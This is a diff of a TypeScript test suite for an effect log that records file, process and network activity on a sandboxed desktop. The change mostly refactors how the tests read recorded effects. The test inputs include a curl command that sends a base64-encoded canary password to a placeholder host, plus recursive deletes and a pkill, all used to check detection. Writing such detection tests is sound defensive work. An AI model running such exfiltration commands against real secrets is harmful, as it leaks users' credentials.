@@ -1,9 +1,11 @@
 import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
+import type { ActionRecord } from '../../src/base/record/evidence/action-record.ts';
+import type { Effect } from '../../src/base/record/evidence/effect.ts';
 import type { Desktop } from '../../src/desktop/client/desktop.ts';
 import { SandboxProvider } from '../../src/desktop/providers/sandbox/sandbox-provider.ts';
 import { makeCanaries } from '../../src/evidence/effect-log/canaries.ts';
-import type { ActionRecord, Effect } from '../../src/evidence/effect-log/effect.ts';
 import { beginEffectLog, type RunningEffectLog } from '../../src/evidence/effect-log/effect-log.ts';
+import { anyFacts } from './make-effect.ts';
 
 /** The effect log on a real desktop: what programs really do to files, mail and the network. */
 describe('an effect log over a sandboxed desktop', () => {
@@ -52,7 +54,7 @@ describe('an effect log over a sandboxed desktop', () => {
     ).toBe(true);
     return found.map(
       (effect) =>
-        `${effect.source} ${effect.kind} ${effect.path ?? effect.detail.host}${effect.detail.to === undefined ? '' : ` → ${effect.detail.to}`}`,
+        `${effect.source} ${effect.kind} ${anyFacts(effect).path ?? anyFacts(effect).detail.host}${anyFacts(effect).detail.to === undefined ? '' : ` → ${anyFacts(effect).detail.to}`}`,
     );
   };
 
@@ -77,7 +79,10 @@ describe('an effect log over a sandboxed desktop', () => {
       'file moved /home/user/Work/start.sh → /home/user/.local/share/Trash/files/start.sh',
     ]);
     expect(await after('rm -r ~/Work/old')).toEqual(['file deleted /home/user/Work/old']);
-    expect(effects.at(-1)?.detail.contents).toEqual(['/home/user/Work/old/a.txt', '/home/user/Work/old/b.txt']);
+    expect(anyFacts(effects.at(-1)).detail.contents).toEqual([
+      '/home/user/Work/old/a.txt',
+      '/home/user/Work/old/b.txt',
+    ]);
   });
 
   it('sees what root does inside, in /etc and /tmp', async () => {
@@ -92,7 +97,7 @@ describe('an effect log over a sandboxed desktop', () => {
     const secret = Buffer.from(canaries.password ?? '').toString('base64');
     const found = await after(`curl -s --max-time 10 -d 'q=${secret}' https://forms.kestrel.example/submit`);
     expect(found).toEqual(['web requested forms.kestrel.example']);
-    expect(effects.at(-1)?.detail.canaries).toEqual([{ name: 'password', encoding: 'base64' }]);
+    expect(anyFacts(effects.at(-1)).detail.canaries).toEqual([{ name: 'password', encoding: 'base64' }]);
     expect(JSON.stringify(effects)).not.toContain(canaries.password);
     expect(actions.some((action) => action.kind === 'name-lookup' && action.text === 'forms.kestrel.example')).toBe(
       true,
@@ -110,7 +115,9 @@ describe('an effect log over a sandboxed desktop', () => {
     await after('python3 -m http.server 8123 --bind 127.0.0.1 > /dev/null 2>&1 & pkill -x tint2; sleep 2');
     const found = await effectLog.stepsOver().collect(0);
     const changes = found.filter(({ kind }) => kind === 'port-opened' || kind === 'session-ended');
-    expect(changes.map(({ kind, detail }) => [kind, detail.port ?? detail.program])).toEqual([
+    expect(
+      changes.map((effect) => anyFacts(effect)).map(({ kind, detail }) => [kind, detail.port ?? detail.program]),
+    ).toEqual([
       ['port-opened', 8123],
       ['session-ended', 'tint2'],
     ]);
@@ -126,7 +133,7 @@ describe('an effect log over a sandboxed desktop', () => {
       await new Promise((resolve) => setTimeout(resolve, 100));
     expect(desktop.state().state).toBe('destroyed');
     const found = await effectLog.collect(step);
-    expect(found.map((effect) => `${effect.source} ${effect.kind} ${effect.path ?? ''}`)).toEqual([
+    expect(found.map((effect) => `${effect.source} ${effect.kind} ${anyFacts(effect).path ?? ''}`)).toEqual([
       'file deleted /home/user/Work/plan.txt',
       'desktop destroyed ',
     ]);
